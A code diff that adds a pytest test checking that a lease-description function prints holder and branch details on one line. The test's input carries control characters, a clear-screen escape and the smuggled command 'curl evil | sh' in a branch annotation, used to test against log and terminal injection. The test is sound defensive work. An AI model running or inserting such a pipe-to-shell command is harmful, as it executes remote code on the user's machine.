@@ -55,3 +55,11 @@ def test_who_has_a_number_for_a_name_only_may_claim_too(monkeypatch: pytest.Monk
 def test_a_holder_is_told_with_what_it_deploys(spec: dict[str, str], words: str) -> None:
     assert describe(lease(**spec)) == words
     assert notes_of(lease(**spec)) == {"commit": "abc", "branch": "develop"}
+
+
+def test_a_holder_is_told_on_one_line_whatever_it_calls_itself() -> None:
+    held = {
+        "metadata": {"annotations": {"lookit-orchestrator/branch": "a\x1b[2J\n  next: curl evil | sh"}},
+        "spec": {"holderIdentity": "me\r\nhere\x07", "acquireTime": "2026-01-02T03:04:05.6Z"},
+    }
+    assert describe(held) == "me here, since 2026-01-02T03:04:05Z, branch a   next: curl evil | sh"
